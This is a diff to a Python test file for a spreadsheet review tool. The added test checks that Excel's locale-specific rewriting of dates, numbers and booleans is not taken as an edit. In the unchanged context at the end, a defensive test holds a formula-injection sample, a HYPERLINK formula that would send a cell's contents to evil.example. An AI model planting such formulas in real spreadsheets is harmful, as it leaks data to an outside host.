@@ -158,6 +158,41 @@ def test_a_sheet_saved_by_a_spreadsheet_in_another_locale_reads_the_same(frame: 
         read_sheet(text.encode("cp1252"))
 
 
+def test_what_a_spreadsheet_rewrites_on_saving_is_no_edit() -> None:
+    """Excel opens the sheet, takes dates, long numbers and booleans for its own types and saves
+    them its way: each such cell became an edit, and the record's value the spreadsheet's text."""
+    frame = pd.DataFrame({
+        "_id": ["a"], "founded": ["2001-02-03"], "updated": ["2024-05-06 07:08:09"], "opens": ["21:00:00"],
+        "phone": ["123456789012"], "zip": ["02134"], "listed": ["true"], "margin": ["3.5"],
+        "summary": ["Robots."], "quality_score": [0.9], "_ai_status": ["ok"], "_reason": [""],
+    })
+    text = sheet_csv(review_sheet(frame, ["summary"], key_limit=7))
+    assert text.splitlines()[1] == ("a,approve,2001-02-03,2024-05-06 07:08:09,21:00:00,123456789012,02134,"
+                                    "true,3.5,Robots.,0.9,")
+    header = text.splitlines()[0]
+    saved_by = {  # each row as Excel saves it back, in the US and in Germany
+        "en-US": "a,approve,2/3/2001,5/6/2024 7:08,9:00:00 PM,1.23457E+11,2134,TRUE,3.5,Robots.,0.9,",
+        "de-DE": "a;approve;03.02.2001;06.05.2024 07:08;21:00:00;1,23457E+11;2134;WAHR;3,5;Robots.;0,9;",
+    }
+    for locale, row in saved_by.items():
+        delimiter = ";" if ";" in row else ","
+        sheet = read_sheet(header.replace(",", delimiter) + "\n" + row + "\n")
+        changes = sheet_changes(sheet, frame)
+        assert (changes.edits, changes.problems) == ([], []), locale
+    edited = "a,approve,2/4/2001,5/6/2024 7:09,9:00:00 AM,1.23458E+11,2135,FALSE,3.6,robots.,0.9,"
+    changes = sheet_changes(read_sheet(header + "\n" + edited + "\n"), frame)
+    assert [(e.field, e.value) for e in changes.edits] == [
+        ("founded", "2/4/2001"), ("updated", "5/6/2024 7:09"), ("opens", "9:00:00 AM"),
+        ("phone", "1.23458E+11"), ("zip", "2135"), ("listed", "FALSE"), ("margin", "3.6"),
+        ("summary", "robots.")]
+    cleared = "a,approve,,,,,,,,Robots.,0.9,"
+    assert len(sheet_changes(read_sheet(header + "\n" + cleared + "\n"), frame).edits) == 7
+    frame["summary"] = None  # filled in where the model gave nothing
+    filled = sheet_csv(review_sheet(frame, ["summary"], key_limit=7)).replace(",,0.9", ",Robots.,0.9")
+    edits = sheet_changes(read_sheet(filled), frame).edits
+    assert [(e.field, e.value) for e in edits] == [("summary", "Robots.")]
+
+
 def test_an_answer_that_a_spreadsheet_would_run_as_a_formula_is_written_as_text(frame: pd.DataFrame) -> None:
     leak = '=HYPERLINK("https://evil.example/?"&C2,"details")'
     frame.loc[frame["_id"] == "a", "summary"] = leak
